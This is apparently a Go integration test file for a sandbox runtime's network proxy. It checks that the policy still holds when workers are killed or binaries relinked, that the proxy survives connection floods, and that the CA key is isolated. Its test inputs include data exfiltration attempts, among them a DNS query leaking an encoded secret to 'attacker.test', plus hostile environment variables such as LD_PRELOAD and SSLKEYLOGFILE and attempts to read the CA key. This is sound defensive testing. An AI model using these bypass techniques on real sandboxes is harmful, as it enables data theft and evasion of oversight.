// SPDX-License-Identifier: Apache-2.0

package integration

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"openshell.dev/runtime/integration/upstream"
	"openshell.dev/runtime/internal/decisionlog"
	"openshell.dev/runtime/internal/proxyapi"
	"openshell.dev/runtime/internal/testenv"
)

// postPolicy is netPolicy with POST, too.
var postPolicy = strings.Replace(netPolicy, `path: "/ok/**"}`, `path: "/ok/**"}
          - allow: {method: POST, path: "/ok/**"}`, 1)

// TestBypass_B61_Killed: a proxy of which a process is killed goes on with another
// one, with the same CA and the policy in force, and what it carried ends.
func TestBypass_B61_Killed(t *testing.T) {
	t.Parallel()
	for _, victim := range []string{"worker", "guard"} {
		t.Run(victim, func(t *testing.T) {
			t.Parallel()
			b := newBox(t, boxOptions{})
			if out, status := b.cli("policy", "set", b.id, "--policy", b.file("post.yaml", postPolicy)); status != 0 {
				t.Fatalf("policy set: %s", out)
			}
			issuer := b.exec("/bin/probe", "issuer", "api.test")
			soFar, wait := b.watch(nil, "/bin/probe", "stream", "https://api.test/ok/events")
			b.until("the stream is open", func() bool { return strings.Contains(soFar(), "status 200") })
			b.until("the standby waits", func() bool { return len(b.proxies()) == 3 })
			before := b.proxy()
			if victim == "guard" {
				kill(t, b.guard(), unix.SIGKILL)
			} else {
				kill(t, before.Pid, unix.SIGKILL)
			}
			if out := wait(); strings.Contains(out, "still open") {
				t.Errorf("the stream printed %q", out)
			}
			b.allowed("/bin/probe", "http", "GET", "https://api.test/ok/1")
			b.allowed("/bin/probe", "http", "POST", "https://api.test/ok/1", "x")
			b.up.Reset()
			b.noRequestArrived(nil, b.exec("/bin/probe", "http", "GET", "https://api.test/other"))
			after := b.proxy()
			if after.Pid == before.Pid || after.Revision != 2 || before.Revision != 2 {
				t.Errorf("before %+v, after %+v; want another worker with revision 2", before, after)
			}
			if again := b.exec("/bin/probe", "issuer", "api.test"); again != issuer || !strings.HasPrefix(issuer, "ok: ") {
				t.Errorf("the CA was %q, is %q", issuer, again)
			}
			if out, err := b.runtime("delete", "--force", b.id); err != nil {
				t.Errorf("delete: %v: %s", err, out)
			}
			b.gone()
		})
	}
}

// TestLinksOfTheFirstWorker: where the policy's programs lead is what it was before
// the workload ran, although no worker may have run then.
func TestLinksOfTheFirstWorker(t *testing.T) {
	t.Parallel()
	var link string
	b := boxOf(t, boxOptions{policy: strings.Replace(netPolicy, "/bin/probe", "/bin/tool", 1), files: func(rootfs string) {
		link = filepath.Join(rootfs, "bin/tool")
		probe, err := os.ReadFile(filepath.Join(rootfs, "bin/probe"))
		if err := errors.Join(err, os.Symlink("probe", link), os.WriteFile(filepath.Join(rootfs, "bin/other"), probe, 0o755)); err != nil {
			t.Fatal(err)
		}
	}})
	if out, err := b.runtime("create", "--bundle", b.dir, b.id); err != nil {
		t.Fatalf("create: %v: %s", err, out)
	}
	// As a workload could that may write there.
	if err := errors.Join(os.Remove(link), os.Symlink("other", link)); err != nil {
		t.Fatal(err)
	}
	if out, err := b.runtime("start", b.id); err != nil {
		t.Fatalf("start: %v: %s", err, out)
	}
	other := []string{"/bin/other", "http", "GET", "https://api.test/ok/1"}
	b.noRequestArrived(other, b.exec(other...))
	b.allowed("/bin/probe", "http", "GET", "https://api.test/ok/1")
}

// TestBypass_B61_NoProxy: without a proxy that judges nothing passes.
func TestBypass_B61_NoProxy(t *testing.T) {
	t.Parallel()
	eachWay(t, func(t *testing.T, b *box) {
		tries := [][]string{
			{"/bin/probe", "say", "tcp", "127.0.0.1:15001", `GET http://api.test/c2VjcmV0 HTTP/1.1\r\nHost: api.test\r\n\r\n`},
			{"/bin/probe", "say", "tcp", b.up.Inside().String() + ":80", `GET /c2VjcmV0 HTTP/1.1\r\nHost: api.test\r\n\r\n`},
			{"/bin/probe", "say", "tcp", b.up.Addr.String() + ":80", `GET /c2VjcmV0 HTTP/1.1\r\nHost: api.test\r\n\r\n`},
			{"/bin/probe", "say", "tcp", b.up.Inside().String() + ":7000", "c2VjcmV0"},
			{"/bin/probe", "say", "tcp", "raw.test:7000", "c2VjcmV0"},
			{"/bin/probe", "say", "udp", b.up.Inside().String() + ":443", "c2VjcmV0"},
			{"/bin/probe", "query", "udp", b.up.Inside().String() + ":53", "A", "c2VjcmV0.attacker.test"},
		}
		all := func() {
			t.Helper()
			b.up.Reset()
			var waits []func() string
			for _, argv := range tries {
				waits = append(waits, b.start(nil, argv...))
			}
			for i, wait := range waits {
				if out := wait(); strings.HasPrefix(out, "ok: ") {
					t.Errorf("%v printed %q", tries[i], out)
				}
			}
			b.nothingArrived([]string{"all"}, "")
		}
		b.allowed("/bin/probe", "http", "GET", "https://api.test/ok/1")
		signal := func(sig unix.Signal) {
			t.Helper()
			for _, pid := range b.proxies() {
				// One may just have ended.
				if err := unix.Kill(pid, sig); err != nil && !errors.Is(err, unix.ESRCH) {
					t.Fatalf("kill %d: %v", pid, err)
				}
			}
		}
		b.until("the standby waits", func() bool { return len(b.proxies()) == 3 })
		signal(unix.SIGSTOP)
		all()
		signal(unix.SIGCONT)
		b.allowed("/bin/probe", "http", "GET", "https://api.test/ok/1")
		signal(unix.SIGSTOP) // or one would start another
		signal(unix.SIGKILL)
		b.until("the proxy is gone", func() bool { return len(b.proxies()) == 0 })
		all()
		if out, err := b.runtime("delete", "--force", b.id); err != nil {
			t.Errorf("delete: %v: %s", err, out)
		}
		b.gone()
	})
}

// TestDeleteEndsStoppedProxies: no process of the proxy outlives its sandbox, not
// even one that does not run.
func TestDeleteEndsStoppedProxies(t *testing.T) {
	t.Parallel()
	b := newBox(t, boxOptions{})
	b.until("the standby waits", func() bool {
		// It does once its lock names it; before that nobody can know of it.
		text, err := os.ReadFile(filepath.Join(b.stateDir(), proxyapi.StandbyLockFile))
		return err == nil && len(text) > 0 && len(b.proxies()) == 3
	})
	for _, pid := range b.proxies() {
		kill(t, pid, unix.SIGSTOP)
	}
	if out, err := b.runtime("delete", "--force", b.id); err != nil {
		t.Errorf("delete: %v: %s", err, out)
	}
	b.gone()
}

func kill(t *testing.T, pid int, sig unix.Signal) {
	t.Helper()
	if err := unix.Kill(pid, sig); err != nil {
		t.Fatalf("kill %d: %v", pid, err)
	}
}

// maxWorkerMemory is what a worker may have in memory after a flood, in KiB.
const maxWorkerMemory = 512 << 10

// Bounds of the flood's effect on other programs. The times are for a busy machine with
// two cores.
const (
	floodConnections = 6000
	// maxDuringFlood and maxAfterFlood bound the time until another program's request is
	// answered, while a program has floodConnections refused connections open, and after.
	maxDuringFlood, maxAfterFlood = 9 * time.Second, 5 * time.Second
	// maxFloodRecords bounds the records of the flood, in bytes.
	maxFloodRecords = 64 << 10
)

// TestBypass_B62_Flood: thousands of connections at once neither end the proxy nor
// make it grow without bound nor fill the records, another program is served meanwhile
// and afterwards, and each refusal is counted.
func TestBypass_B62_Flood(t *testing.T) {
	t.Parallel()
	b := newBox(t, boxOptions{})
	before := b.proxy().Pid
	b.up.Reset()
	soFar := len(b.log())
	wait := b.start(nil, "/bin/probe", "flood", strconv.Itoa(floodConnections), "denied.test:80")
	b.until("the first refusal is recorded", func() bool { return len(b.log()) > soFar })
	served := func(when string, most time.Duration) {
		t.Helper()
		began := time.Now()
		out := b.exec("/bin/probe", "http", "GET", "https://api.test/ok/1")
		if took := time.Since(began); !strings.Contains(out, "upstream saw GET /ok/1") || took > most {
			t.Errorf("%s the flood another program's request took %s: %s", when, took, out)
		} else {
			t.Logf("%s the flood another program's request took %s", when, took)
		}
	}
	served("during", maxDuringFlood)
	out := wait()
	served("after", maxAfterFlood)
	if slices.ContainsFunc(b.up.Requests(), func(r upstream.Request) bool { return r.Path == "/flood" }) {
		t.Errorf("the flood reached the upstream: %v", b.up.Requests())
	}
	opened := 0
	if n, ok := strings.CutPrefix(out, "ok: "); !ok || number(t, n) < floodConnections*2/3 {
		t.Errorf("printed %q", out)
	} else {
		opened = number(t, n)
	}
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", before))
	if err != nil {
		t.Fatalf("the worker is gone: %v", err)
	}
	_, rss, _ := strings.Cut(string(status), "VmRSS:")
	if kib := number(t, rss); kib > maxWorkerMemory {
		t.Errorf("the worker has %d KiB in memory", kib)
	} else {
		t.Logf("the worker has %d KiB in memory", kib)
	}
	b.allowed("/bin/probe", "http", "GET", "https://api.test/ok/1")
	if after := b.proxy().Pid; after != before {
		t.Errorf("the worker was replaced: %d, then %d", before, after)
	}
	// The remaining counts are written when the sandbox ends.
	if out, err := b.runtime("delete", "--force", b.id); err != nil {
		t.Fatalf("delete: %v: %s", err, out)
	}
	var refused uint64
	b.until("every refusal is recorded or counted", func() bool {
		refused = 0
		for _, line := range b.log() {
			var r decisionlog.Record
			if err := json.Unmarshal([]byte(line), &r); err != nil {
				t.Fatal(err)
			}
			if r.Verdict == decisionlog.Deny {
				refused += max(1, r.Count)
			}
			if r.Dropped > 0 {
				t.Errorf("dropped: %s", line)
			}
		}
		return refused >= uint64(opened)
	})
	if n := len(strings.Join(b.log(), "\n")); n > maxFloodRecords {
		t.Errorf("%d refusals wrote %d bytes", refused, n)
	}
}

// TestBypass_B72_OneEach: each sandbox has a proxy and a CA of its own, which
// nobody else trusts and whose key nobody inside sees (B59, B72, B73).
func TestBypass_B72_OneEach(t *testing.T) {
	t.Parallel()
	hostile := []string{"GODEBUG=http2debug=2", "SSLKEYLOGFILE=/tmp/keys", "HTTPS_PROXY=http://denied.test:80", "SSL_CERT_FILE=/tmp/own.pem", "LD_PRELOAD=/tmp/x.so"}
	a := newBox(t, boxOptions{env: hostile})
	b := newBox(t, boxOptions{up: a.up})
	ca, err := os.ReadFile(filepath.Join(a.stateDir(), proxyapi.CACertFile))
	if err != nil {
		t.Fatal(err)
	}
	const bundle = "/etc/ssl/certs/ca-certificates.crt"
	for _, box := range []*box{a, b} {
		text, err := os.ReadFile(fmt.Sprintf("/proc/%d/root%s", box.init(), bundle))
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(text, bytes.TrimSpace(ca)) != (box == a) {
			t.Errorf("the bundle of %s with the CA of %s:\n%s", box.id, a.id, text)
		}
	}
	t.Run("environment", func(t *testing.T) {
		for _, pid := range []int{a.guard(), a.proxy().Pid} {
			if env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid)); err != nil || len(env) > 0 {
				t.Errorf("process %d has %q, %v", pid, env, err)
			}
		}
		if env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", a.init())); err != nil || !bytes.Contains(env, []byte("SSL_CERT_FILE=/tmp/own.pem\x00")) {
			t.Errorf("the workload's own variable is gone: %q, %v", env, err)
		}
	})
	t.Run("key", func(t *testing.T) {
		text, err := os.ReadFile(filepath.Join(a.stateDir(), proxyapi.CAKeyFile))
		if err != nil {
			t.Fatal(err)
		}
		block, _ := pem.Decode(text)
		if block == nil {
			t.Fatal("the key is no PEM")
		}
		secrets := [][]byte{block.Bytes, bytes.Split(text, []byte("\n"))[1]}
		searched := 0
		root := fmt.Sprintf("/proc/%d/root/", a.init())
		err = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			inside := strings.TrimPrefix(path, root)
			if d != nil && d.IsDir() && (inside == "sys" || inside == "proc") {
				return fs.SkipDir
			}
			if err != nil || !d.Type().IsRegular() {
				return err
			}
			searched++
			data, err := os.ReadFile(path)
			if slices.ContainsFunc(secrets, func(s []byte) bool { return bytes.Contains(data, s) }) {
				t.Errorf("%s holds the CA's key", inside)
			}
			return err
		})
		if err != nil || searched < 3 {
			t.Errorf("%d files searched: %v", searched, err)
		}
		for _, file := range []string{filepath.Join(a.stateDir(), proxyapi.CAKeyFile), controlSocket(a), "/proc/1/root" + a.stateDir()} {
			if out := a.exec("/bin/probe", "read", file); !strings.HasPrefix(out, "error: ") {
				t.Errorf("%s printed %q", file, out)
			}
		}
		if st, err := os.Stat(filepath.Join(a.stateDir(), proxyapi.CAKeyFile)); err != nil || st.Mode().Perm() != 0o600 {
			t.Errorf("the key's mode: %v, %v", st.Mode(), err)
		}
		// Neither a core nor another process shows the proxy's memory.
		for _, pid := range []int{a.guard(), a.proxy().Pid} {
			limits, err := os.ReadFile(fmt.Sprintf("/proc/%d/limits", pid))
			if err != nil || !strings.Contains(strings.Join(strings.Fields(string(limits)), " "), "Max core file size 0 0") {
				t.Errorf("process %d may dump core: %v", pid, err)
			}
		}
	})
	t.Run("verified by one's own CA", func(t *testing.T) {
		sum := func(c []byte) string {
			block, _ := pem.Decode(c)
			return fmt.Sprintf("ok: %x", sha256.Sum256(block.Bytes))
		}
		theirs, err := os.ReadFile(filepath.Join(b.stateDir(), proxyapi.CACertFile))
		if err != nil {
			t.Fatal(err)
		}
		if out := b.exec("/bin/probe", "issuer", "api.test"); out != sum(theirs) || out == sum(ca) {
			t.Errorf("printed %q", out)
		}
	})
}

func controlSocket(b *box) string { return filepath.Join(b.stateDir(), proxyapi.ControlSocketFile) }

// TestBypass_B53_ProxyDescriptors: with a proxy beside it, too, the workload has no
// descriptor but its own; and nobody outside root reaches the control socket.
func TestBypass_B53_ProxyDescriptors(t *testing.T) {
	t.Parallel()
	b := newBox(t, boxOptions{argv: []string{"/bin/probe", "sleep", "10m"}})
	fds, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", b.init()))
	if err != nil {
		t.Fatal(err)
	}
	for _, fd := range fds {
		target, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", b.init(), fd.Name()))
		if n, _ := strconv.Atoi(fd.Name()); err == nil && n > 2 && !strings.HasPrefix(target, "anon_inode:[event") {
			t.Errorf("descriptor %s is open: %s", fd.Name(), target)
		}
	}
	st, err := os.Stat(controlSocket(b))
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Errorf("control socket: %v, %v", st, err)
	}
}

// gone fails unless everything of the box is.
func (b *box) gone() {
	b.t.Helper()
	var left []string
	if !testenv.Eventually(5*time.Second, func() bool {
		left = b.processes()
		return len(left) == 0
	}) {
		b.t.Errorf("processes remain: %q", left)
	}
	b.nothingRemains()
	if left := cgroupsOf(b.t, b.id); len(left) > 0 {
		b.t.Errorf("cgroups remain: %v", left)
	}
}

// proxies are the processes of the box's proxy.
func (b *box) proxies() (pids []int) {
	b.t.Helper()
	for _, p := range b.processes() {
		if dir, line, _ := strings.Cut(p, " "); strings.HasPrefix(filepath.Base(line), "openshell-") {
			pids = append(pids, number(b.t, filepath.Base(dir)))
		}
	}
	return pids
}

// processes are those that are the box's: its proxy, and whatever has the world's
// folder as its root.
func (b *box) processes() (found []string) {
	b.t.Helper()
	all, err := filepath.Glob("/proc/[0-9]*")
	if err != nil {
		b.t.Fatal(err)
	}
	for _, p := range all {
		line, _ := os.ReadFile(p + "/cmdline")
		root, _ := os.Readlink(p + "/root")
		args := strings.Split(string(line), "\x00")
		if slices.Contains(args, b.id) || strings.HasPrefix(root, b.dir) {
			found = append(found, p+" "+strings.Join(args, " "))
		}
	}
	return found
}
